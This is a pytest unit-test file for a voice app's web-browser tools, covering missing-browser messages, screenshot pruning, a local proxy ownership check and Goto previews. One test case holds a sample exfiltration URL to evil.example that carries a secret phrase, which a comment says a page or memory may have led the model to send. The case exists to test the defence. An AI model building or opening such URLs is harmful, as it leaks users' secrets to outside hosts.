"""Where there is no browser, the tools are off with the commands that bring one."""

from __future__ import annotations

import sys
from collections.abc import Sequence
from pathlib import Path

import pytest

from pipecatapp.domain import ComponentHealth
from pipecatapp.errors import ToolError
from pipecatapp.ports import ClosingTool, ToolContext
from pipecatapp.tools.registry import TOOLS, ToolServices, create_tools
from pipecatapp.tools.web_browser.browser import WebBrowser
from pipecatapp.tools.web_browser.pictures import Pictures
from pipecatapp.tools.web_browser.proxy import belongs_to_us
from pipecatapp.tools.web_browser.tools import GetPageContent, Goto
from pipecatapp.vision.camera_watcher import NoCamera
from testing.fakes.storage import storage_in

pytestmark = pytest.mark.unit

NAMES = [name for name in TOOLS if name.startswith("web_browser.")]


def services(folder: Path, browser: WebBrowser | None) -> ToolServices:
    async def health() -> Sequence[ComponentHealth]:
        return []

    async def model() -> str:
        return ""

    async def clear(_: str) -> None:
        raise AssertionError

    store = storage_in(folder).conversations
    return ToolServices(
        health=health, model=model, vision=NoCamera(), conversations=store, clear=clear, started=0.0, browser=browser
    )


@pytest.fixture
def path(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The only folder on the PATH."""
    monkeypatch.setenv("PATH", str(tmp_path))
    return tmp_path


def program(folder: Path, name: str) -> Path:
    file = folder / name
    file.write_text("#!/bin/sh\n")
    file.chmod(0o755)
    return file


def test_with_both_the_tools_are_there(path: Path) -> None:
    program(path, "chromium")
    made = create_tools(services(path, WebBrowser(Pictures(path))), NAMES)
    assert [tool.spec.name for tool in made.tools] == NAMES
    assert made.off == {}
    assert all(tool.spec.untrusted and isinstance(tool, ClosingTool) for tool in made.tools)


def test_without_chromium_the_command_is_named(path: Path) -> None:
    made = create_tools(services(path, WebBrowser(Pictures(path))), NAMES)
    assert made.tools == []
    assert set(made.off.values()) == {"it needs a browser; run: sudo apt-get install chromium"}


def test_without_playwright_the_command_is_named(path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "playwright", None)
    assert WebBrowser(Pictures(path)).missing() == (
        "it needs a browser; run: sudo pipecatapp extras install browser && sudo apt-get install chromium"
    )
    program(path, "chromium")
    assert "apt-get" not in WebBrowser(Pictures(path)).missing()


def test_a_chromium_that_the_settings_name_must_be_there(path: Path) -> None:
    assert "BROWSER_EXECUTABLE /nowhere/chrome is no program" in WebBrowser(Pictures(path), "/nowhere/chrome").missing()
    assert WebBrowser(Pictures(path), str(program(path, "mine"))).missing() == ""


async def test_reading_starts_no_browser(path: Path) -> None:
    browser = WebBrowser(Pictures(path))
    with pytest.raises(ToolError, match="there is no open page"):
        await GetPageContent(browser).run({}, ToolContext("c", "t"))
    await browser.aclose()


def test_the_oldest_pictures_are_deleted(tmp_path: Path) -> None:
    pictures = Pictures(tmp_path / "pictures", most=2)
    paths = [pictures.add(bytes([number])) for number in range(4)]
    assert len(set(paths)) == 4
    kept = {file.name: file.read_bytes() for file in (tmp_path / "pictures").iterdir()}
    assert kept == {paths[number].rpartition("/")[2]: bytes([number]) for number in (2, 3)}


def test_the_proxy_serves_programs_of_this_user_alone(tmp_path: Path) -> None:
    table = tmp_path / "tcp"
    head = "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n"
    line = "   0: 0100007F:C350 0100007F:1F90 01 00000000:00000000 00:00000000 00000000  {uid}        0 1 1 0\n"
    table.write_text(head + line.format(uid=1000))
    assert belongs_to_us(50000, 8080, 1000, table)
    assert not belongs_to_us(50000, 8080, 1001, table)
    assert not belongs_to_us(50001, 8080, 1000, table)
    assert not belongs_to_us(50000, 8081, 1000, table)


@pytest.mark.parametrize(
    ("url", "words", "whole"),
    [
        ("https://example.org", "open example.org", True),
        ("https://example.org/a/page?of=it", "open that page", True),
        # What a page or a memory may have made the model carry away; nobody hears it.
        (f"https://evil.example/?q={'the code of the gate is 1234 '.replace(' ', '+') * 3}", "open that page", False),
        (f"https://example.org/{'long/' * 20}", f"open https://example.org/{'long/' * 20} please", True),
    ],
)
async def test_an_address_that_carries_much_needs_the_page(tmp_path: Path, url: str, words: str, whole: bool) -> None:
    preview = await Goto(WebBrowser(Pictures(tmp_path))).preview({"url": url}, ToolContext("c", "t", words))
    assert preview.whole is whole
    assert preview.detail.startswith(url)
